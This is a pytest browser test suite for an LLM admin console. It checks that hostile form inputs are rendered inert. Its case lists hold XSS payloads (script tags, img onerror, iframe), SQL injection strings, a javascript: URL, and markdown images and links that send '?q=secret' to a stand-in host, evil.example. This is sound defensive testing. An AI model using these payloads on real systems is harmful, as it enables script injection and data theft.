"""The bad-input battery in a real headless Chromium: hostile and malformed values typed into the real forms of
the console as `llm-console run` serves it (the tiny model as the engine, the safety scanners on).

Each case asserts that the page shows a clear message or renders the input inert (no element, image or link made
from it, no request to another host), that Streamlit showed no exception box, and that the session keeps working
(each group ends with a normal action that succeeds). One server, one browser: the signed-in page is reused and
moved around with the sidebar (a full page load starts a new, signed-out session); the sign-in cases use that on
purpose, one fresh load each.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from console.services.access import os_user, shell_username
from tests.conftest import STRONG_PASSWORD
from tests.e2e_support import ARTIFACTS, chromium, cli, console_env, running_console

pytestmark = pytest.mark.e2e
TIMEOUT_MS = 30_000
CHAT_BOX = "Ask the support model…"
GENERIC_FAILURE = "Wrong username or password"
# A script or event handler smuggled in by a test sets this; it must never exist.
PWNED = "window.__pwned"


@pytest.fixture(scope="module")
def console_server(tmp_path_factory: pytest.TempPathFactory, tiny_model_dir: Path,
                   vllm_server: Any) -> Iterator[tuple[str, Path]]:
    data = tmp_path_factory.mktemp("e2e-bad-input")
    env = console_env(data, LLM_CONSOLE_DEFAULT_MODEL="tiny-e2e", LLM_CONSOLE_KV_CACHE_GIB="0.25",
                      # The key of the session's vLLM server (tests/conftest.py), for the server form's cases.
                      LLM_CONSOLE_SERVER_API_KEY=vllm_server.api_key,
                      # Every case signs in from the same address; the sign-in throttle is not under test here.
                      LLM_CONSOLE_LOGIN_ATTEMPTS_PER_MINUTE="1000",
                      # The 20,000-character cases test the box's and the model's limits; their scan takes seconds on
                      # a busy machine, and the scan's own limit (2 s) is tested in tests/chat/test_scan_timeout.py.
                      LLM_CONSOLE_SCAN_TIMEOUT_SECONDS="120")
    cli(env, "init", "--skip-models")
    cli(env, "model", "register", "tiny-e2e", str(tiny_model_dir), "--max-model-len", "512")
    with running_console(env, data) as url:
        yield url, data


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as b:
        yield b


class Watched:
    """A page and every URL it requested (to prove nothing was loaded from another host)."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.requested: list[str] = []
        self.checked = 0  # requests before this index belong to cases already checked
        page.on("request", lambda request: self.requested.append(request.url))

    def new_requests(self) -> list[str]:
        new, self.checked = self.requested[self.checked:], len(self.requested)
        return new


@pytest.fixture(scope="module")
def signed_out(browser: Any, console_server: tuple[str, Path]) -> Iterator[Watched]:
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    yield Watched(page)
    page.close()


@pytest.fixture(scope="module")
def admin(browser: Any, console_server: tuple[str, Path]) -> Iterator[Watched]:
    """The admin (admin and operator roles), signed in once; the chat input enabled once the model is ready."""
    url, _ = console_server
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    watched = Watched(page)
    _sign_in(page, url, "admin", STRONG_PASSWORD)
    page.get_by_role("heading", name="Chat").wait_for(timeout=60_000)
    page.wait_for_function(
        "() => { const t = document.querySelector('textarea[placeholder^=\"Ask the support model\"]');"
        " return t && !t.disabled; }", timeout=180_000)
    yield watched
    page.close()


# --- helpers ---------------------------------------------------------------------------------------------------


def _type(page: Any, box: Any, text: str, *, keys: bool = False) -> None:
    """Put ``text`` in ``box`` as a paste (one insertion; a field refuses a paste over its limit whole) or, with
    ``keys``, key by key (a field stops taking keys at its limit)."""
    box.fill("")
    if keys:
        box.press_sequentially(text)
    else:
        box.focus()
        page.keyboard.insert_text(text)


def _sign_in(page: Any, url: str, username: str, password: str, *, keys: bool = False) -> None:
    page.goto(url)
    _type(page, page.get_by_role("textbox", name="Username"), username, keys=keys)
    _type(page, page.get_by_role("textbox", name="Password"), password)
    page.get_by_role("button", name="Sign in").click()


def _nav(page: Any, label: str, heading: str) -> None:
    page.locator("[data-testid='stSidebarNav']").get_by_text(label, exact=True).click()
    page.get_by_role("heading", name=heading).first.wait_for(timeout=TIMEOUT_MS)


def _fresh(page: Any, label: str, heading: str) -> None:
    """Open a page anew (via another one), so no message of an earlier case is still on screen."""
    _nav(page, "Policy", "Safety policy")
    _nav(page, label, heading)


def _shows(page: Any, text: str | re.Pattern[str], timeout: int = TIMEOUT_MS) -> None:
    try:
        page.get_by_text(text).first.wait_for(timeout=timeout)
    except Exception:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "bad-input-failure.png"), full_page=True)
        raise


def _wait_until(check: Callable[[], bool], timeout_s: float = 60.0) -> None:
    deadline = time.monotonic() + timeout_s
    while not check():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.2)


def _assert_sound(w: Watched) -> None:
    """No exception box, nothing active made from input, nothing requested from another host (since the last
    check)."""
    page = w.page
    loaded = [u for u in w.new_requests() if "evil.example" in u]
    assert page.locator("[data-testid='stException']").count() == 0
    assert page.locator("a[href*='evil.example']").count() == 0
    assert page.locator("img[src*='evil.example'], img[src='x'], iframe, [data-testid='stMain'] script").count() == 0
    assert page.evaluate(f"() => typeof {PWNED}") == "undefined"
    assert loaded == []


def _db(data: Path) -> Any:
    from db.config import DbConfig
    from db.database import Database

    return Database(DbConfig(url=f"sqlite:///{data / 'console.db'}"))


# --- the sign-in form ----------------------------------------------------------------------------------------------

SIGN_INS = [
    ("huge-username-typed", "a" * 200, STRONG_PASSWORD),
    ("huge-username-pasted", "a" * 10_000, STRONG_PASSWORD),
    ("nul-in-username", "ad\x00min", STRONG_PASSWORD),
    ("rtl-override-username", "\u202enimda", STRONG_PASSWORD),
    ("sql-or-true", "' OR 1=1 --", "' OR '1'='1"),
    ("sql-comment-out-password", "admin'--", "anything at all"),
    ("html-username", "<img src=x onerror=window.__pwned=1>", STRONG_PASSWORD),
]


@pytest.mark.parametrize("username,password", [c[1:] for c in SIGN_INS], ids=[c[0] for c in SIGN_INS])
def test_a_bad_sign_in_shows_one_clear_message_and_nothing_else(signed_out, console_server, username, password):
    url, _ = console_server
    _sign_in(signed_out.page, url, username, password, keys=username == "a" * 200)
    if len(username) > 64:  # no browser limit any more: the box keeps it all and the limit is said
        assert signed_out.page.get_by_role("textbox", name="Username").input_value() == username
        _shows(signed_out.page, "at most 64 characters")
    _shows(signed_out.page, re.compile(f"{GENERIC_FAILURE}|at most 64 characters|Enter a username and a password"))
    assert signed_out.page.locator("[data-testid='stSidebarNav']").count() == 0  # not signed in
    _assert_sound(signed_out)


def test_the_sign_in_form_typed_at_most_its_limit_and_the_log_kept_little(console_server):
    _, data = console_server
    from db import audit as audit_q

    db = _db(data)
    with db.session(readonly=True) as s:
        failed = list(audit_q.iter_events(s, action="auth.login_failed"))
    db.dispose()
    assert len(failed) >= len(SIGN_INS) - 1
    assert all(len(e.actor) <= 100 and len(e.object_id or "") <= 100 for e in failed)


def test_a_pasted_70_character_username_stays_in_the_box_and_the_limit_is_said(signed_out, console_server):
    # It was silently emptied: the box had a browser limit (64), which drops a longer paste whole.
    url, _ = console_server
    _sign_in(signed_out.page, url, "u" * 70, STRONG_PASSWORD)
    _shows(signed_out.page, "A username has at most 64 characters")
    assert signed_out.page.get_by_role("textbox", name="Username").input_value() == "u" * 70
    _assert_sound(signed_out)


def test_a_normal_sign_in_works_after_the_bad_ones(signed_out, console_server):
    url, _ = console_server
    _sign_in(signed_out.page, url, "admin", STRONG_PASSWORD)
    signed_out.page.get_by_role("heading", name="Chat").wait_for(timeout=60_000)
    _assert_sound(signed_out)


# --- the chat input ---------------------------------------------------------------------------------------------

CHAT_HOSTILE = [
    ("script-and-img", "<script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=2\"> hello",
     "<script>window.__pwned=1</script>"),
    ("markdown-image", "Show ![status](https://evil.example/p.png?q=secret) please", "evil.example/p.png"),
    ("markdown-link-and-url", "Open [my invoice](https://evil.example/?q=secret) or https://evil.example/x",
     "evil.example/?q=secret"),
    ("rtl-override", "Refund for file \u202egnp.exe please", "gnp.exe"),
    ("iframe-and-heading", "# BIG <iframe src=\"https://evil.example/f\"></iframe>", "<iframe"),
]


def _new_conversation(page: Any) -> None:
    page.locator("[data-testid='stSidebar']").get_by_role("button", name="New conversation").click()
    _shows(page, "A new conversation.")


def _answers(page: Any) -> int:
    return page.get_by_text("tokens/s").count()


def _send(page: Any, text: str) -> None:
    box = page.get_by_placeholder(CHAT_BOX)
    box.fill(text)
    box.press("Enter")


@pytest.mark.parametrize("prompt,shown", [c[1:] for c in CHAT_HOSTILE], ids=[c[0] for c in CHAT_HOSTILE])
def test_hostile_chat_input_is_answered_and_shown_as_text(admin, prompt, shown):
    page = admin.page
    _new_conversation(page)
    before = _answers(page)
    _send(page, prompt)
    _wait_until(lambda: _answers(page) > before, 120)
    _shows(page, shown)
    _assert_sound(admin)


def test_a_chat_message_near_the_limit_gets_a_clear_message(admin):
    page = admin.page
    _send(page, "refund " * 2_855)  # 19,985 characters: what the box takes, far more than the model's context
    _shows(page, "too long", 60_000)
    _assert_sound(admin)


def _conversations(data: Path) -> int:
    from db.tables import Conversation

    db = _db(data)
    with db.session(readonly=True) as s:
        n = s.query(Conversation).count()
    db.dispose()
    return n


def test_a_pasted_chat_message_over_the_limit_is_refused_with_the_limit_and_comes_back_in_the_box(admin):
    # The box had a browser limit (20,000), which dropped a longer paste whole and said nothing.
    page = admin.page
    _fresh(page, "Chat", "Chat")
    box = page.get_by_placeholder(CHAT_BOX)
    _type(page, box, "r" * 25_000)
    assert len(box.input_value()) == 25_000
    box.press("Enter")
    _shows(page, "The message has 25,000 characters; the limit is 20,000.", 60_000)
    page.wait_for_function("() => document.querySelector('textarea[placeholder^=\"Ask the support model\"]')"
                           ".value.length === 25000", timeout=TIMEOUT_MS)
    # The refused text is in no chat message (counting messages raced with the page still drawing a conversation).
    assert page.locator("[data-testid='stChatMessage']", has_text="r" * 200).count() == 0
    _assert_sound(admin)


def test_a_first_prompt_too_long_for_the_model_keeps_its_text_says_the_limit_and_opens_no_conversation(
        admin, console_server):
    _, data = console_server
    page = admin.page
    _new_conversation(page)
    conversations = _conversations(data)
    text = "refund " * 1_000  # 7,000 characters: under the box's limit, far over the model's 512 tokens
    _send(page, text)
    _shows(page, re.compile(r"The prompt is too long: \d+ tokens, but the model's context holds 512"), 60_000)
    page.wait_for_function("(n) => document.querySelector('textarea[placeholder^=\"Ask the support model\"]')"
                           ".value.length === n", arg=len(text), timeout=TIMEOUT_MS)
    assert page.get_by_placeholder(CHAT_BOX).input_value() == text
    assert _conversations(data) == conversations  # no empty conversation left in the sidebar
    _shows(page, "A new conversation.")
    _assert_sound(admin)


def test_a_chat_message_of_only_whitespace_sends_nothing_or_asks_for_a_message(admin):
    page = admin.page
    _fresh(page, "Chat", "Chat")
    before = page.locator("[data-testid='stChatMessage']").count()
    box = page.get_by_placeholder(CHAT_BOX)
    box.fill("   \n\t  ")
    box.press("Enter")
    time.sleep(2)
    asked = page.get_by_text("The message is required").count() > 0
    assert asked or page.locator("[data-testid='stChatMessage']").count() == before
    _assert_sound(admin)


def test_chat_works_normally_after_the_bad_input(admin):
    page = admin.page
    _fresh(page, "Chat", "Chat")
    _new_conversation(page)
    before = _answers(page)
    _send(page, "Where is my order?")
    _wait_until(lambda: _answers(page) > before, 120)
    _assert_sound(admin)


def test_a_reload_reopens_the_conversation_that_was_open(admin):
    # F5 on Chat opened a new empty conversation: the open one is in the address now (?conversation=ID).
    page = admin.page
    page.wait_for_url(re.compile(r"[?&]conversation=\d+"), timeout=TIMEOUT_MS)
    address = page.url
    page.reload()
    page.get_by_role("heading", name="Chat").wait_for(timeout=60_000)
    # The conversation the last test had open, in the chat itself (not only its title in the sidebar).
    page.locator("[data-testid='stChatMessage']").get_by_text("Where is my order?").first.wait_for(timeout=TIMEOUT_MS)
    assert page.url == address and page.get_by_text("A new conversation.").count() == 0
    _assert_sound(admin)


# Found by this battery: ui.shows_errors shows a ConsoleError with st.error(str(exc)), which renders markdown, and
# some messages quote the typed value ({source!r} on the Models page, {email!r} on the Users page, quantization):
# a markdown image typed there is loaded from its host, a markdown link becomes a live link.


# --- the Users page ---------------------------------------------------------------------------------------------


def _add_user(page: Any, username: str, password: str, *, email: str = "", display_name: str = "",
              role: str | None = "operator") -> None:
    _fresh(page, "Users", "Users")
    page.get_by_role("textbox", name="Username", exact=True).fill(username)
    page.get_by_role("textbox", name="Display name").fill(display_name)
    _type(page, page.get_by_role("textbox", name="Email (for single sign-on)"), email, keys=len(email) > 100)
    page.get_by_role("textbox", name="Initial password").fill(password)
    if role:
        page.locator("[data-testid='stMultiSelect']").first.click()
        page.get_by_role("option", name=role, exact=True).click()
        page.keyboard.press("Escape")
    page.get_by_role("button", name="Add user").click()


USERS = [
    ("spaces-and-caps", {"username": "Bad Name!"}, "A username has 2-64 characters"),
    ("rtl-override", {"username": "eve\u202enimda"}, "A username has 2-64 characters"),
    ("sql", {"username": "x'; DROP TABLE users; --"}, "A username has 2-64 characters"),
    ("html", {"username": "<img src=x onerror=window.__pwned=1>"}, "A username has 2-64 characters"),
    ("short-password", {"username": "shorty", "password": "short"}, "at least 12 characters"),
    ("huge-email", {"username": "mailer", "email": "a" * 300 + "@example.com"}, "email address"),
    ("no-role", {"username": "roleless", "role": None}, "at least one role"),
    pytest.param({"username": "imager", "email": "![x](https://evil.example/e.png)"}, "email address",
                 id="markdown-image-email"),
]


def _params(rows: list[Any]) -> list[Any]:
    """Rows of (id, *values), or ready pytest params (for the cases marked as known bugs)."""
    return [r if hasattr(r, "marks") else pytest.param(*r[1:], id=r[0]) for r in rows]


@pytest.mark.parametrize("fields,message", _params(USERS))
def test_a_bad_user_on_the_users_page_gets_a_clear_message(admin, fields, message):
    page = admin.page
    _add_user(page, **{"password": STRONG_PASSWORD, **fields})
    _shows(page, message)
    _assert_sound(admin)


def _usernames(data: Path) -> set[str]:
    from db.tables import User

    db = _db(data)
    with db.session(readonly=True) as s:
        names = {u.username for u in s.query(User).all()}
    db.dispose()
    return names


def test_a_70_character_username_on_the_users_page_stays_in_the_box_and_the_limit_is_said(admin):
    # It was silently emptied: the box had a browser limit (64), which drops a longer value whole.
    page = admin.page
    _add_user(page, "u" * 70, STRONG_PASSWORD)
    _shows(page, "A username has at most 64 characters; this one has 70.")
    assert page.get_by_role("textbox", name="Username", exact=True).input_value() == "u" * 70
    _assert_sound(admin)


def test_users_page_adds_a_user_with_a_hostile_display_name_as_text_after_the_bad_ones(admin, console_server):
    _, data = console_server
    page = admin.page
    _add_user(page, "e2e-user", STRONG_PASSWORD, display_name="<img src=x onerror=window.__pwned=1>")
    # "Added ..." flashes before the page reruns to list the new user; the store says it for sure.
    _wait_until(lambda: "e2e-user" in _usernames(data), 30)
    page.get_by_role("textbox", name="Username", exact=True).wait_for(timeout=TIMEOUT_MS)
    _assert_sound(admin)


# --- the audit log search box --------------------------------------------------------------------------------------

AUDIT = [
    ("actor-sql", "Actor", "' OR 1=1 --"),
    ("actor-percent", "Actor", "%"),
    ("actor-underscore", "Actor", "_"),
    ("action-percent", "Action starts with", "%"),
    ("action-underscore", "Action starts with", "_"),
    ("action-backslash-percent", "Action starts with", "\\%"),
]
SOME_EVENTS = re.compile(r"^[1-9]\d* events shown")
NO_EVENTS = re.compile(r"^0 events shown")


def _filter(page: Any, label: str, value: str) -> None:
    box = page.get_by_role("textbox", name=label)
    box.fill(value)
    box.press("Enter")


@pytest.mark.parametrize("label,value", [c[1:] for c in AUDIT], ids=[c[0] for c in AUDIT])
def test_sql_wildcards_in_the_audit_search_match_only_themselves(admin, label, value):
    page = admin.page
    _fresh(page, "Audit log", "Audit log")
    _shows(page, SOME_EVENTS)
    _filter(page, label, value)
    _shows(page, NO_EVENTS)
    _assert_sound(admin)


def test_the_audit_search_still_finds_events_after_the_wildcards(admin):
    page = admin.page
    _fresh(page, "Audit log", "Audit log")
    _filter(page, "Action starts with", "auth.")
    _shows(page, SOME_EVENTS)
    _assert_sound(admin)


# --- the Models page's register form ----------------------------------------------------------------------------


def _register(page: Any, name: str, source: str, engine_args: str = "") -> None:
    _fresh(page, "Models", "Model versions")
    page.get_by_role("tab", name="Register").click()
    page.get_by_role("textbox", name="Version name", exact=True).fill(name)
    page.get_by_role("textbox", name="Source").fill(source)
    page.get_by_role("textbox", name="vLLM engine arguments (JSON)").fill(engine_args)
    page.get_by_role("button", name="Register", exact=True).click()


REGISTRATIONS = [
    ("path-does-not-exist", {"name": "e2e-missing", "source": "/no/such/model/dir"},
     "neither an existing local directory nor a hub id"),
    ("bad-json-engine-args", {"name": "e2e-bad-json", "engine_args": "{tensor_parallel_size: 2"},
     "Engine arguments must be a JSON object"),
    ("unknown-engine-arg", {"name": "e2e-unknown-arg", "engine_args": '{"rm_rf": true}'},
     "Unknown vLLM engine argument"),
    ("duplicate-name", {"name": "tiny-e2e"}, "is already registered"),
    ("html-name", {"name": "<img src=x onerror=window.__pwned=1>"}, "A version name has"),
    pytest.param({"name": "e2e-image", "source": "![x](https://evil.example/p.png)"},
                 "neither an existing local directory", id="markdown-image-source"),
]


@pytest.mark.parametrize("fields,message", _params(REGISTRATIONS))
def test_a_bad_registration_on_the_models_page_gets_a_clear_message(admin, tiny_model_dir, fields, message):
    page = admin.page
    _register(page, **{"source": str(tiny_model_dir), **fields})
    _shows(page, message, 60_000)
    _assert_sound(admin)


def test_the_models_page_registers_a_version_after_the_bad_ones(admin, tiny_model_dir):
    page = admin.page
    _register(page, "e2e-good", str(tiny_model_dir), '{"enforce_eager": true}')
    _shows(page, "Registered e2e-good", 60_000)
    _assert_sound(admin)
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "bad-input-models.png"), full_page=True)


def _register_server(page: Any, name: str, urls: str, model: str) -> None:
    _fresh(page, "Models", "Model versions")
    page.get_by_role("tab", name="Register").click()
    page.get_by_text("vLLM server", exact=True).click()
    page.get_by_role("textbox", name="Version name", exact=True).fill(name)
    page.get_by_role("textbox", name="Server base URLs (one a line)").fill(urls)
    page.get_by_role("textbox", name="Served model name (empty = the version name)").fill(model)
    page.get_by_role("button", name="Register", exact=True).click()


SERVER_REGISTRATIONS = [
    ("not-http", {"urls": "ftp://10.0.0.1:8000"}, "ftp://10.0.0.1:8000"),
    ("script-url", {"urls": "javascript:alert(1)"}, "javascript:alert(1)"),
    ("wrong-model", {"model": "not-served-here"}, "not not-served-here"),
]


@pytest.mark.parametrize("fields,message", _params(SERVER_REGISTRATIONS))
def test_a_bad_server_registration_on_the_models_page_gets_a_clear_message(admin, vllm_server, fields, message):
    page = admin.page
    _register_server(page, **{"name": "e2e-srv-bad", "urls": vllm_server.url, "model": vllm_server.name, **fields})
    _shows(page, message, 60_000)
    _assert_sound(admin)


def test_the_models_page_registers_a_server_version_asking_the_real_server(admin, console_server, vllm_server):
    page = admin.page
    _register_server(page, "e2e-srv", vllm_server.url, vllm_server.name)
    _shows(page, "Registered e2e-srv (vLLM server", 60_000)
    _assert_sound(admin)
    from db import model_versions as versions_q

    db = _db(console_server[1])
    with db.session(readonly=True) as s:
        row = versions_q.get_model_version_by_name(s, "e2e-srv")
        stored = None if row is None else (row.backend, row.server_urls, (row.server_info or {}).get("model"))
        bad = versions_q.get_model_version_by_name(s, "e2e-srv-bad")
    db.dispose()
    assert stored == ("server", [vllm_server.url], vllm_server.name)  # what the real server reported
    assert bad is None  # none of the refused registrations left a row
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "models-server-version.png"), full_page=True)


def test_no_bad_user_was_created_no_nul_was_stored_and_the_chain_verifies(console_server):
    _, data = console_server
    from db import audit as audit_q
    from db.tables import Exchange

    db = _db(data)
    with db.session(readonly=True) as s:
        prompts = [e.prompt for e in s.query(Exchange).all()]
    report = audit_q.verify_chain(db)
    db.dispose()
    assert report.ok
    # None of the bad ones; the CLI's own row (the shell principal, "shell:<OS user>") is the only other.
    assert _usernames(data) - {shell_username(os_user() or "")} == {"admin", "e2e-user"}
    assert all("\x00" not in p for p in prompts)


def test_the_sidebar_follows_a_switch_made_elsewhere_without_a_click(admin, console_server):
    # It stayed on the old version until the next click: the line is a fragment that draws itself every few seconds.
    _, data = console_server
    page = admin.page
    _fresh(page, "Audit log", "Audit log")  # a page with nothing else that reruns by itself
    sidebar = page.locator("[data-testid='stSidebar']")
    sidebar.get_by_text("Live model: tiny-e2e · ready").first.wait_for(timeout=TIMEOUT_MS)
    cli(console_env(data, LLM_CONSOLE_DEFAULT_MODEL="tiny-e2e"), "model", "serve", "e2e-good", "--reason",
        "browser test: the sidebar follows",
        "--break-glass", "the browser test moves production from another process")
    sidebar.get_by_text("Live model: e2e-good · ready").first.wait_for(timeout=300_000)  # the switch; no click
    _assert_sound(admin)
